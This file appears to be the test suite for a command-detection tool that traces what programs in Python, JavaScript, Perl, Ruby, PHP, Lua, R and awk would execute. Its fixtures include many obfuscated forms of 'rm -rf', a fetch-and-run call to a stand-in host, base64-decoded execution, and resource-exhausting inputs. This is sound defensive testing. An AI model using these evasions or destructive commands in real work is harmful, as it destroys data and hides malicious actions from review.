"""Programs given to interpreters, followed with what is known: what they would do, print and write."""

import time

import pytest

from shellward.command.actions import Action
from shellward.command.follow.program import LONGEST, follow
from shellward.command.follow.things import Given
from shellward.command.values import labels

REMOVE = "rm -rf /srv/x"
SAME = {
    "python": [
        "import os; os.system(' '.join(['rm', '-rf', '/srv/x']))",
        "import os; p = '/srv'; os.system(f'rm -rf {p}/x')",
        "import os; os.system('x/vrs/ fr- mr'[::-1])",
        "import os; os.system('{1} -{0} {2}'.format('rf', 'rm', '/srv/x'))",
        "import os; d = {'c': 'rm', 'p': '/srv/x'}; os.system('%(c)s -rf %(p)s' % d)",
        "import os; [os.system(c) for c in ['rm -rf /srv/x']]",
        "import os\nfor p in ('/srv/x',):\n    os.system('rm -rf ' + p)",
        "import os\ndef go(c):\n    return os.system(c)\ngo('rm -rf /srv/x')",
        "import os\nclass C:\n    c = 'rm -rf /srv/x'\n    def go(self):\n        os.system(self.c)\nC().go()",
        "from os import system as s; s('rm -rf /srv/x')",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('rm -rf /srv/x')",
        "import os, functools; functools.partial(os.system, 'rm -rf /srv/x')()",
        "import os, threading; threading.Thread(target=os.system, args=('rm -rf /srv/x',)).start()",
        "exec('import os; os.system(\"rm -rf /srv/x\")')",
    ],
    "javascript": [
        "const {execSync: e} = require('child_process'); e(['rm', '-rf', '/srv/x'].join(' '))",
        "const c = require('child_process'); c['exec' + 'Sync']('rm -rf /srv/x')",
        "require('child_process').execSync([...'x/vrs/ fr- mr'].reverse().join(''))",
        "let s = ''; for (const w of ['rm', '-rf']) s += w + ' '; require('child_process').exec(s + '/srv/x')",
        "import('child_process').then(m => m.execSync('rm -rf /srv/x'))",
        "const p = require('child_process'); class A { go(c) { p.execSync(c) } } new A().go('rm -rf /srv/x')",
        "global['ev' + 'al'](\"require('child_process').execSync('rm -rf /srv/x')\")",
        "require('child_process').execSync(`${'rm'} -rf ${['/srv', 'x'].join('/')}`)",
    ],
    "perl": [
        "system(join(' ', qw(rm -rf /srv/x)))",
        "my $c = 'rm'; $c .= ' -rf'; system \"$c /srv/x\"",
        "my %h = (c => 'rm -rf', p => '/srv/x'); system(\"$h{c} $h{p}\")",
        "$_ = 'ez -es /fei/k'; tr/a-z/n-za-m/; system $_",
        "sub go { my ($c) = @_; system $c } go('rm -rf /srv/x')",
        "system(scalar reverse('x/vrs/ fr- mr'))",
        "print `rm -rf /srv/x`",
    ],
    "ruby": [
        'c = "rm"; c << " -rf"; system "#{c} /srv/x"',
        '["rm -rf /srv/x"].each { |c| system c }',
        'Kernel.send("sys" + "tem", "rm -rf /srv/x")',
        'system "%s -rf %s" % %w[rm /srv/x]',
        "go = ->(c) { system c }; go.('rm -rf /srv/x')",
        "class A; def initialize(c); @c = c; end; def go; system(@c); end; end; A.new('rm -rf /srv/x').go",
    ],
    "php": [
        '$c = "rm"; $c .= " -rf"; system("$c /srv/x");',
        '$f = "sys" . "tem"; $f("rm -rf /srv/x");',
        'array_map("system", ["rm -rf /srv/x"]);',
        'foreach (["/srv/x"] as $p) { shell_exec("rm -rf {$p}"); }',
    ],
    "lua": [
        'os.execute(table.concat({"rm", "-rf", "/srv/x"}, " "))',
        'os["exe" .. "cute"](("x/vrs/ fr- mr"):reverse())',
        'for _, p in ipairs({"/srv/x"}) do os.execute("rm -rf " .. p) end',
    ],
    "r": [
        'system(paste("rm", "-rf", "/srv/x"))',
        'f <- function(c) system(c); f("rm -rf /srv/x")',
        'do.call("system", list("rm -rf /srv/x"))',
    ],
    "awk": [
        'BEGIN { c = "rm"; c = c " -rf"; system(c " /srv/x") }',
        'BEGIN { s = "rm -rf /srv/X"; sub(/X/, "x", s); system(s) }',
        'function go(p) { system("rm -rf " p) } BEGIN { go("/srv/x") }',
    ],
}


def told(language, code, given=None):
    return [action.text or " ".join(action.argv) for action in follow(language, code, given or Given()).actions]


@pytest.mark.parametrize(("language", "code"), [(language, code) for language, codes in SAME.items() for code in codes])
def test_the_same_deed_in_many_ways(language, code):
    outcome = follow(language, code, Given())
    assert outcome.complete
    assert REMOVE in told(language, code)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "print('rm -rf /srv/x')"),
        ("python", "class C:\n    def system(self, c):\n        return c\nC().system('rm -rf /srv/x')"),
        ("python", "import ast; ast.parse('os.system(\"rm -rf /srv/x\")')"),
        ("javascript", "const o = {exec(c) { return c }}; o.exec('rm -rf /srv/x')"),
        ("javascript", "/exec(.*)/.exec('rm -rf /srv/x')"),
        ("ruby", "def run(c) puts c end; run 'rm -rf /srv/x'"),
        ("perl", "my %h = (system => 1); print keys %h"),
        ("php", 'echo implode(" ", ["rm", "-rf", "/srv/x"]);'),
        ("awk", 'BEGIN { c = "rm -rf /srv/x"; print c }'),
    ],
)
def test_texts_are_only_texts(language, code):
    outcome = follow(language, code, Given())
    assert outcome.complete
    assert not outcome.actions


def test_what_is_given():
    given = Given(("rm", "-rf", "/srv/x"), "rm -rf /srv/x\n", {"C": REMOVE}.get)
    assert told("python", "import sys, os; os.system(' '.join(sys.argv[1:]))", given) == [REMOVE]
    assert told("ruby", "system ARGV.join(' ')", given) == [REMOVE]
    assert told("python", "import os; os.system(os.environ['C'])", given) == [REMOVE]
    assert told("perl", "system $ENV{C}", given) == [REMOVE]
    assert told("python", "import sys, os; [os.system(line.strip()) for line in sys.stdin]", given) == [REMOVE]
    assert told("awk", '{ system("rm " $2 " " $3) }', given) == [REMOVE]


def test_what_is_printed_is_known_or_said_not_to_be():
    assert follow("python", "for p in 'ab':\n    print('rm', p)", Given()).printed == "rm a\nrm b\n"
    assert follow("perl", "print 'a', 'b'", Given()).printed == "ab"
    assert labels(follow("python", "import random; print(random.random())", Given()).printed)


def test_what_is_written_to_a_command_or_a_file():
    code = "import subprocess; p = subprocess.Popen(['sh'], stdin=-1); p.communicate(b'rm -rf /srv/x')"
    assert Action("argv", argv=("sh",), stdin="rm -rf /srv/x\n") in follow("python", code, Given()).actions
    code = "open('/tmp/a', 'w').write('rm -rf /srv/x')"
    assert Action("file", REMOVE, ("/tmp/a",)) in follow("python", code, Given()).actions


def test_what_is_fetched_or_decoded_and_run():
    fetched = "import urllib.request as u, os; c = u.urlopen('http://x.example/a').read().decode(); os.system(c)"
    assert ("@run", "python", "net:urlopen") in [action.argv for action in follow("python", fetched, Given()).actions]
    decoded = "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))"
    assert ("@run", "python", "decoded") in [action.argv for action in follow("python", decoded, Given()).actions]


def test_functions_that_nothing_calls_are_followed_too():
    assert told("python", "import os\ndef main():\n    os.system('rm -rf /srv/x')") == [REMOVE]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "x = [1]\nfor i in range(300):\n    x = x + x\nprint(x)"),
        ("python", "x = 'a'\nfor i in range(300):\n    x += x\nprint(x)"),
        ("python", "x = []\nx.append(x)\nprint(x, x == x)"),
        ("python", "def f(n):\n    f(n); f(n)\nf(1)"),
        ("python", "while True:\n    pass"),
        ("python", "(" * 3000),
        ("python", "x = 9 ** 9 ** 9 ** 9"),
        ("python", "\0"),
        ("javascript", "(" * 6000),
        ("javascript", "a(function(){" * 900),
        ("javascript", "`${" * 3000),
        ("javascript", '"\\"' * 3000),
        ("javascript", "/*" * 6000),
        ("perl", "s/a/" * 3000),
        ("perl", "<<A;" * 3000),
        ("perl", "$" * 9000),
        ("ruby", '"#{' * 3000),
        ("ruby", "a do " * 2000),
        ("lua", "[[" * 6000),
        ("lua", "function a() " * 1200),
        ("php", '"{$a' * 3000),
        ("awk", "{print a b > " * 1500),
        ("r", "f <- function(x) " * 1200),
        ("python", "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(20))"),
        ("python", "def f(a):\n" + "    if a: return f(a)\n" * 1000 + "f(1)"),
        ("lua", "--[=[" * 4800),
        ("lua", "--[[" * 6000),
        ("perl", '"' + "@{[" * 8000 + '"'),
        ("php", '"' + "${" * 12000 + '"'),
        ("ruby", ':"' * 12000),
        ("javascript", "switch(" * 3000),
        ("python", "try:\n    return 1\nfinally:\n    pass\n" * 600),
    ],
)
def test_hostile_programs_end(language, code):
    began = time.process_time()
    follow(language, code[:LONGEST], Given())
    assert time.process_time() - began < 5


def test_what_python_would_warn_of_is_followed_too():
    assert told("python", "import os; d = '\\d'; os.system('rm -rf /srv/x')") == [REMOVE]


def test_what_cannot_be_read_is_not_followed():
    assert not follow("python", "print 'two'", Given()).complete
    assert not follow("cobol", "DISPLAY 'x'", Given()).complete
    assert not follow("python", "x = 1\n" * LONGEST, Given()).complete
